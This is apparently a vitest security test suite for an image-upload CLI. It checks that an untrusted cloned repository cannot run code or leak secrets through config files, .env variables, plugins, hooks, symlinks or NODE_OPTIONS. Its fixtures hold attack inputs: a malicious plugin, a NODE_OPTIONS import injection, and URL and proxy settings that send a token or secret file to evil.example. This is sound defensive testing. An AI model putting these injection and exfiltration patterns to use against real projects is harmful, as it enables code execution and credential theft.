import { existsSync } from 'node:fs'
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { type CliResult, runBuilt, runCli } from '../cli/run-cli.ts'
import { makeDirectory } from '../helpers/directory.ts'
import { eventually } from '../helpers/eventually.ts'
import { formOf, post } from '../helpers/form.ts'
import { makePicture } from '../helpers/picture.ts'
import { spawnServer } from '../helpers/spawn-server.ts'

type Files = Record<string, unknown>

/**
 * A repository of somebody else, the home of the user beside it, and a file that is there as soon as the stranger's code
 * has run.
 *
 * @param brings files of the repository, made of a command that is the stranger's code
 */
async function cloneRepository(brings: (command: readonly string[]) => Files, own: Files = {}) {
  const root = await makeDirectory()
  const [cwd, home, proof] = [join(root, 'repo'), join(root, 'home'), join(root, 'proof')]
  const command = ['sh', '-c', `touch ${proof}; echo https://img.example/a`]
  const evil = `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(proof)}, '')\n`
  const repository: Files = {
    'evil.mjs': `${evil}export default () => []`,
    'a.png': makePicture(),
    'note.md': '![](a.png)',
    ...brings(command),
  }
  for (const [folder, files] of [
    [cwd, repository],
    [home, own],
  ] as const)
    for (const [name, content] of Object.entries(files)) {
      const isReady = typeof content === 'string' || Buffer.isBuffer(content)
      await mkdir(dirname(join(folder, name)), { recursive: true })
      await writeFile(join(folder, name), isReady ? content : JSON.stringify(content))
    }
  await mkdir(home, { recursive: true })
  const env = { HOME: home, XDG_DATA_HOME: join(home, 'data'), UPLOAD_SERVER_CONFIG: '' }
  return {
    ...{ cwd, home, env },
    /** Whether the stranger's code ran. */
    wasRun: () => existsSync(proof),
    run: (...args: string[]): Promise<CliResult> => runCli(args, { cwd, env }),
    serve: (more: Record<string, string> = {}, ...args: string[]) =>
      spawnServer(['--port', '0', ...args], { directory: cwd, env: { ...env, ...more } }),
  }
}

const LOCAL = { local: { Default: { directory: 'pictures', urlPrefix: 'https://img.example' } } }
const USER_CONFIG = '.config/upload-server/config.json'
const TAKE_IT = '--config upload-server.json'

/** Configurations that run code. */
const CODE: Record<string, (command: readonly string[]) => object> = {
  'a plugin': () => ({ plugins: ['./evil.mjs'], providers: LOCAL }),
  'a destination that is a command': command => ({
    default: 'command/x',
    providers: { command: { x: { command } }, ...LOCAL },
  }),
  'a hook that is a command': command => ({
    providers: LOCAL,
    finalization: { hooks: [{ name: 'x', command }] },
  }),
}

/** Variables that run code, or lead to a configuration that does. */
const dotenv = (command: readonly string[]): Files => ({
  'other.json': { plugins: ['./evil.mjs'], providers: LOCAL },
  'upload-server/config.json': { plugins: ['../evil.mjs'], providers: LOCAL },
  '.config/upload-server/config.json': { plugins: ['../../evil.mjs'], providers: LOCAL },
  '.env': [
    'UPLOAD_SERVER_CONFIG=other.json',
    'upload_server_config=other.json',
    'XDG_CONFIG_HOME=.',
    'HOME=.',
    'UPLOAD_SERVER__PLUGINS=./evil.mjs',
    `upload_server__plugins='["./evil.mjs"]'`,
    'UPLOAD_SERVER__DEFAULT=local',
    `UPLOAD_SERVER__PROVIDERS__COMMAND__X__COMMAND='${JSON.stringify(command)}'`,
    `UPLOAD_SERVER__PROVIDERS='${JSON.stringify({ command: { x: { command } } })}'`,
    `UPLOAD_SERVER__FINALIZATION__HOOKS='${JSON.stringify([{ name: 'x', command }])}'`,
    `UPLOAD_SERVER__FINALIZATION='${JSON.stringify({ hooks: [{ name: 'x', command }] })}'`,
    'NODE_OPTIONS=--import=./evil.mjs',
  ].join('\n'),
})

const COMMANDS = [
  ['upload', 'a.png'],
  ['markdown', '.'],
  ['history'],
  ['remove', 'x', '--yes'],
  ['finalize'],
  ['check'],
  ['heartbeat'],
]
const TAB = [
  ['complete', '--', 'upload', '--picbed', ''],
  ['complete', '--', 'check', ''],
]

describe('code of a cloned folder is not run', () => {
  it.each(Object.entries(CODE))('by %s in ./upload-server.json', async (_, configOf) => {
    const { run, wasRun } = await cloneRepository(command => ({ 'upload-server.json': configOf(command) }))
    for (const args of COMMANDS) {
      const { stderr } = await run(...args)
      const told = stderr.split('\n').filter(line => line.includes('upload-server.json'))
      expect(told, args[0]).toEqual([
        `Ignored upload-server.json, because this folder is not trusted. If you trust it, add ${TAKE_IT}.`,
      ])
    }
    for (const args of TAB)
      expect(await run(...args)).toEqual({ code: 0, stdout: expect.stringMatching(/^local/), stderr: '' })
    await run('init', '--yes', '--provider', 'local')
    for (const args of [['show'], ['validate']]) {
      const { code, stderr } = await run('config', ...args)
      expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining(TAKE_IT) })
    }
    expect((await run('config', 'schema')).stderr).toContain(TAKE_IT)
    expect(wasRun()).toBe(false)
  })

  it('by variables in ./.env', async () => {
    const { run, wasRun, serve } = await cloneRepository(dotenv)
    for (const args of COMMANDS)
      expect((await run(...args)).stderr).toMatch(
        /^Ignored .*\.env \(UPLOAD_SERVER_CONFIG.*, because this folder is not trusted/m,
      )
    for (const args of [...TAB, ['config', 'show'], ['config', 'validate'], ['config', 'schema']])
      expect(await run(...args)).toMatchObject({ code: 0 })
    await run('init', '--yes', '--provider', 'local')
    const server = await serve()
    await post(`${await server.url}/upload`, { body: formOf({ 'a.txt': 'x' }) })
    expect(server.errors()).toMatch(
      /\.env \(UPLOAD_SERVER_CONFIG, upload_server_config, UPLOAD_SERVER__PLUGINS/,
    )
    expect(wasRun()).toBe(false)
  })

  it.each(Object.entries(CODE))('by a server that finds %s, or gets it later', async (_, configOf) => {
    const place = await cloneRepository(command => ({ 'upload-server.json': configOf(command) }))
    const { cwd, env, serve, wasRun } = place
    const { code, stdout, stderr } = await runBuilt(['serve', '--port', '0'], { cwd, env })
    expect({ code, stdout, stderr }).toEqual({
      code: 1,
      stdout: '',
      stderr: expect.stringContaining(TAKE_IT),
    })
    const file = join(cwd, 'upload-server.json')
    const evil = await readFile(file)
    await writeFile(file, JSON.stringify({ providers: LOCAL }))
    const server = await serve()
    const url = await server.url
    await writeFile(file, evil)
    await eventually(() =>
      expect(server.lines.join('\n')).toContain(
        'Could not reload the configuration. The previous one stays in use',
      ),
    )
    await post(`${url}/upload`, { body: formOf({ 'a.txt': 'x' }) })
    expect(wasRun()).toBe(false)
  })

  it('by the built program: an agent, a tab key, an upload', async () => {
    const { cwd, env, wasRun } = await cloneRepository(command => ({
      ...dotenv(command),
      'upload-server.json': { plugins: ['./evil.mjs'], providers: LOCAL },
    }))
    for (const args of [['mcp'], TAB[0] as string[], ['upload', 'a.png']])
      expect(await runBuilt(args, { cwd, env })).toMatchObject({ code: 0 })
    expect(wasRun()).toBe(false)
  })

  it('by a link to another folder, or a file that never ends', async () => {
    const { cwd, run, wasRun } = await cloneRepository(dotenv)
    await mkdir(join(cwd, 'sub'))
    const elsewhere = {
      ...{ cwd: join(cwd, 'sub') },
      env: { HOME: join(cwd, '../home'), UPLOAD_SERVER_CONFIG: '' },
    }
    await symlink('../other.json', join(cwd, 'sub/upload-server.json'))
    await symlink('/dev/zero', join(cwd, 'sub/.env'))
    const { code, stderr } = await runCli(['config', 'show'], elsewhere)
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringContaining('outside the working directory'),
    })
    expect(await runCli(['heartbeat'], elsewhere)).toMatchObject({ code: 1 })
    await symlink('other.json', join(cwd, 'upload-server.json'))
    expect((await run('config', 'show')).stderr).toContain(TAKE_IT)
    expect(wasRun()).toBe(false)
  })

  it('by a package of the name of a plugin that the environment names', async () => {
    const { cwd, env, wasRun } = await cloneRepository(() => ({
      'upload-server.json': { providers: LOCAL },
      'node_modules/upload-server-provider-x/package.json': { main: '../../evil.mjs' },
    }))
    const named = { ...env, UPLOAD_SERVER__PLUGINS: 'upload-server-provider-x' }
    for (const args of [['history'], ['check'], ['config', 'show'], ['serve']])
      expect(await runCli(args, { cwd, env: named }), args[0]).toMatchObject({
        code: 1,
        stderr: expect.stringContaining('the package is not installed'),
      })
    expect(wasRun()).toBe(false)
  })

  it('by a program of the name that the configuration of the user has', async () => {
    const script = 'cat > /dev/null\necho https://img.example/own\n'
    const place = await cloneRepository(command => ({ 'store.sh': `cat > /dev/null\n${command[2]}` }), {
      [USER_CONFIG]: {
        default: 'command/x',
        providers: { command: { x: { command: ['sh', 'store.sh'] } } },
        finalization: { hooks: [{ name: 'y', command: ['sh', 'store.sh'] }] },
      },
      [join(dirname(USER_CONFIG), 'store.sh')]: script,
    })
    expect(await place.run('upload', 'a.png')).toMatchObject({ code: 0, stdout: 'https://img.example/own\n' })
    expect(place.wasRun()).toBe(false)
  })

  it('but is when its owner says so', async () => {
    const { run, wasRun } = await cloneRepository(command => ({
      'upload-server.json': CODE['a plugin']?.(command),
    }))
    const { code, stderr } = await run('upload', 'a.png', '--config', 'upload-server.json')
    expect({ code, stderr }).toEqual({ code: 0, stderr: expect.not.stringContaining('Not used') })
    expect(wasRun()).toBe(true)
  })
})

it('the tab key and heartbeat load no plugin of any configuration', async () => {
  const { run, wasRun, cwd, env } = await cloneRepository(() => ({}), {
    [USER_CONFIG]: { plugins: ['../../../repo/evil.mjs'], providers: { theirs: { a: {} } } },
  })
  for (const args of TAB) expect((await run(...args)).stdout).toMatch(/^theirs/)
  expect(await run('heartbeat', '-c', join(cwd, '../home', USER_CONFIG))).toMatchObject({ code: 1 })
  const named = { ...env, UPLOAD_SERVER__PLUGINS: '../../../repo/evil.mjs' }
  for (const args of [...TAB, ['heartbeat']]) await runCli(args, { cwd, env: named })
  expect(wasRun()).toBe(false)
  expect((await run('check')).stderr).toContain('providers.theirs: is not a provider')
  expect(wasRun()).toBe(true)
})

describe('a secret of the user does not go into a configuration that was only found,', () => {
  const providersOf = (urlPrefix: string) => ({ local: { Default: { directory: 'pictures', urlPrefix } } })

  it.each(['${TOKEN}', '${file:../home/secret}', '${file:link}', '${file:/dev/zero}'])(
    'by %s',
    async value => {
      const { cwd, env } = await cloneRepository(
        () => ({ 'upload-server.json': { providers: providersOf(`https://evil.example/${value}`) } }),
        { secret: 'hush' },
      )
      await symlink('../home/secret', join(cwd, 'link'))
      for (const args of [['serve'], ['config', 'show']]) {
        const { code, stdout, stderr } = await runCli(args, { cwd, env: { ...env, TOKEN: 'hush' } })
        expect({ code, stdout, stderr }).toEqual({
          code: 1,
          stdout: '',
          stderr: expect.stringContaining(TAKE_IT),
        })
        expect(stderr).not.toContain('hush')
      }
    },
  )

  it('by options of the environment beside its own', async () => {
    const github = { apiUrl: 'https://evil.example', repo: 'me/img' }
    const { cwd, env } = await cloneRepository(() => ({
      'upload-server.json': { providers: { github: { Default: github } } },
    }))
    const given = { ...env, UPLOAD_SERVER__PROVIDERS__GITHUB__DEFAULT__TOKEN: 'hush' }
    const { code, stderr } = await runCli(['config', 'validate'], { cwd, env: given })
    expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining(TAKE_IT) })
  })

  it('but what lies in its folder does', async () => {
    const { run } = await cloneRepository(() => ({
      'upload-server.json': { providers: providersOf('https://${HOST}/${file:sub/name}') },
      '.env': 'HOST=img.example',
      'sub/name': 'pictures\n',
    }))
    const { stdout } = await run('config', 'show')
    expect(JSON.parse(stdout).providers.local.Default.urlPrefix).toBe('https://img.example/pictures')
  })
})

it('a .env of the working directory does not send elsewhere what the configuration of the user has', async () => {
  const github = { repo: 'me/img', token: 'hush', apiUrl: '${API}' }
  const { run, cwd, home } = await cloneRepository(
    () => ({
      '.env':
        'API=https://evil.example\nUPLOAD_SERVER__PROVIDERS__GITHUB__DEFAULT__APIURL=https://evil.example\nUPLOAD_SERVER__NETWORK__PROXY=http://evil.example',
    }),
    {
      [USER_CONFIG]: { providers: { github: { Default: github } } },
      [`${dirname(USER_CONFIG)}/.env`]: 'API=https://api.example',
    },
  )
  const { stdout, stderr } = await run('config', 'show')
  expect(JSON.parse(stdout)).toMatchObject({
    network: { proxy: 'environment' },
    providers: { github: { Default: { apiUrl: 'https://api.example' } } },
  })
  expect(stderr).toContain(
    '.env (UPLOAD_SERVER__PROVIDERS__GITHUB__DEFAULT__APIURL, UPLOAD_SERVER__NETWORK__PROXY)',
  )
  expect(stderr).toContain(`move it next to ${join(home, USER_CONFIG)}`)
  expect(cwd).not.toBe(home)
})
